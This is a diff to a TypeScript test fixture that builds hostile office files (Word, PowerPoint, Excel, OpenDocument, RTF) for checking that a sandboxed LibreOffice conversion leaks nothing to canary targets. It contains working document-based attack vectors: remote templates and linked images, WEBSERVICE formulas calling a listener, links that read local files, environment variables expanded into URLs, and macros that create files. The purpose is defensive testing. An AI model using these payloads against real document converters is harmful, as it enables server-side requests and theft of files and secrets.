@@ -11,26 +11,27 @@ import {
   workbook,
 } from './spreadsheets.ts';
 
-/** Where a hostile document would like to look. */
+/** The targets of hostile documents. */
 export interface Canaries {
-  /** A listener that should hear nothing. */
+  /** URL of a listener that must receive no request. */
   http: string;
-  /** A text file that should be shown nowhere. */
+  /** Path of a text file whose content must appear on no page. */
   text: string;
-  /** A picture of one colour that should be seen nowhere. */
+  /** Path of a picture in one colour that must appear on no page. */
   picture: string;
-  /** A file that should not come into being. */
+  /** Path of a file that must not be created. */
   made: string;
 }
 
-/** What LibreOffice does for a document when nothing holds it back. */
+/** What a document achieves in a LibreOffice without protection. */
 export interface Reach {
-  /** Paths it asks the listener for. */
+  /** Paths that LibreOffice requests from the listener. */
   calls?: string[];
-  /** The canary file's text, or that of the environment, stands on a page. */
+  /** The text of the file or of the environment is on a page. */
   text?: true;
-  /** The canary picture is seen on a page. */
+  /** The picture is on a page. */
   picture?: true;
+  /** The file is created. */
   made?: true;
 }
 
@@ -38,14 +39,14 @@ export interface Hostile {
   name: string;
   extension: string;
   content: Buffer;
-  /** LibreOffice does it whatever its switches say: only the sandbox stops it. */
+  /** Whether LibreOffice's settings do not prevent it, and only the sandbox does. */
   onlyContained?: boolean;
   reaches: Reach;
 }
 
 const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
 
-/** What a text of Word's links to: the part of it that does, and what kind of link it is. */
+/** A link in a Word document. */
 interface Link {
   type: 'image' | 'aFChunk' | 'subDocument';
   url: string;
@@ -59,7 +60,7 @@ const BODY: Record<Link['type'], (id: string) => string> = {
   subDocument: (id) => `<w:subDoc r:id="${id}"/>`,
 };
 
-/** A text full of links that is made after a template from elsewhere. */
+/** A Word document with links and with a template at another URL. */
 function linkingText(links: Link[], template: string): Buffer {
   const relation = (id: string, type: string, target: string, more = ' TargetMode="External"') =>
     `<Relationship Id="${id}" Type="${REL}/${type}" Target="${target}"${more}/>`;
@@ -79,7 +80,7 @@ function linkingText(links: Link[], template: string): Buffer {
   return docx(body, settings, `${relations.join('')}${relation('rId8', 'settings', 'settings.xml', '')}`);
 }
 
-/** A presentation of one slide with linked pictures on it. */
+/** A presentation with one slide that has linked pictures. */
 function slideWithPictures(...urls: string[]): Buffer {
   const types = 'application/vnd.openxmlformats-officedocument.presentationml.';
   const names = `xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="${REL}"`;
@@ -131,15 +132,14 @@ const svg = (url: string) =>
 const drawing = (url: string) =>
   frame(`<draw:image><office:binary-data>${svg(url)}</office:binary-data></draw:image>`);
 
-/** A value of the variable `CANARY` that can be a part of an address. */
+/** The value of the variable `CANARY`; it can be a part of a URL. */
 export const ENVIRONMENT = 'canary-of-the-environment';
 
 /**
- * Documents that try to look around, to call somebody, or to leave something: many ways in each. `reaches` is
- * what a LibreOffice 7.4 without any protection does of it. Not in it, so that nothing is proven about them,
- * because that one does not do it either: parts of other Word texts, and templates; pictures over http and
- * INCLUDETEXT in RTF; pictures over http in an SVG; variables in the addresses of pictures and sections; macros
- * when a text is opened unseen, as a converter does.
+ * Documents that try in several ways to read files, to send requests and to create files. `reaches` lists what
+ * LibreOffice 7.4 does without protection. It does not follow the other attempts either, so the tests prove nothing
+ * about them: parts of other Word documents and templates, pictures over HTTP and INCLUDETEXT in RTF, pictures over HTTP
+ * in SVG, variables in the URLs of pictures and sections, and macros when a text is opened without a window.
  */
 export function hostiles({ http, text, picture: image, made }: Canaries): Hostile[] {
   const of = (name: string, extension: string, reaches: Reach, content: Buffer): Hostile => ({
@@ -154,7 +154,7 @@ export function hostiles({ http, text, picture: image, made }: Canaries): Hostil
   const object = `<draw:object-ole xlink:href="${http}/object" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>`;
   return [
     of(
-      'a Word text that links to pictures and texts, and has a template elsewhere',
+      'a Word document with links to pictures and texts, and with a template at a URL',
       'docx',
       { calls: ['/word.png'], picture: true },
       linkingText(
@@ -176,7 +176,7 @@ export function hostiles({ http, text, picture: image, made }: Canaries): Hostil
       slideWithPictures(`${http}/slide.png`, file(image)),
     ),
     odt(
-      'an OpenDocument text with links over http',
+      'an OpenDocument text with links over HTTP',
       { calls: ['/text.png', '/section.odt', '/object'] },
       linkedImage(`${http}/text.png`),
       section(`${http}/section.odt`),
@@ -184,24 +184,24 @@ export function hostiles({ http, text, picture: image, made }: Canaries): Hostil
       frame(object),
     ),
     odt(
-      'an OpenDocument text with links to this machine',
+      'an OpenDocument text with links to files of this machine',
       { picture: true, text: true },
       linkedImage(file(image)),
       section(file(text)),
     ),
     odt(
-      'a text with the environment in its addresses',
+      'a text with environment variables in its URLs',
       {},
       linkedImage(expanded(`${http}/picture`)),
       section(expanded(`${http}/section`)),
     ),
     {
-      ...odt('a drawing that contains a picture from this machine', { picture: true }, drawing(file(image))),
+      ...odt('a drawing with a picture of this machine', { picture: true }, drawing(file(image))),
       onlyContained: true,
     },
     {
       ...of(
-        'RTF fields that include pictures and texts, and a template elsewhere',
+        'RTF fields with pictures and texts, and with a template at a URL',
         'rtf',
         { picture: true },
         Buffer.from(
@@ -211,36 +211,41 @@ export function hostiles({ http, text, picture: image, made }: Canaries): Hostil
       onlyContained: true,
     },
     of(
-      'an Excel WEBSERVICE',
+      'an Excel workbook with WEBSERVICE',
       'xlsx',
       { calls: ['/excel-webservice'] },
       workbook([`_xlfn.WEBSERVICE("${http}/excel-webservice")`]),
     ),
     of(
-      'an Excel workbook that refers to others',
+      'an Excel workbook with references to other workbooks',
       'xlsx',
       { calls: ['/other.xlsx'] },
       workbook(['[1]a!A1', '[2]a!A1'], [`${http}/other.xlsx`, file(text)]),
     ),
     of(
-      'an OpenDocument WEBSERVICE',
+      'an OpenDocument spreadsheet with WEBSERVICE',
       'ods',
       { calls: ['/webservice'] },
       sheet([webservice(`${http}/webservice`)]),
     ),
     of(
-      'cells of other spreadsheets, and one with the environment in its address',
+      'references to cells of other spreadsheets, with an environment variable in a URL',
       'ods',
       { calls: ['/other.ods', `/cell/${ENVIRONMENT}`] },
       sheet([reference(`${http}/other.ods`), reference(expanded(`${http}/cell`)), reference(file(text))]),
     ),
     of(
-      'sheets and ranges that are copies of files elsewhere',
+      'sheets and ranges that are copies of other files',
       'ods',
       { calls: ['/sheet.ods', '/range.txt', `/sheet/${ENVIRONMENT}`], text: true },
       copies([`${http}/sheet.ods`, expanded(`${http}/sheet`)], [`${http}/range.txt`, file(text)]),
     ),
-    of('a macro that runs when the text is opened', 'odt', {}, withMacro(made)),
-    of('a macro that is a function of a cell', 'ods', { made: true, text: true }, withFunction(made)),
+    of('a text with a macro that runs when the text is opened', 'odt', {}, withMacro(made)),
+    of(
+      'a spreadsheet with a macro that computes a cell',
+      'ods',
+      { made: true, text: true },
+      withFunction(made),
+    ),
   ];
 }
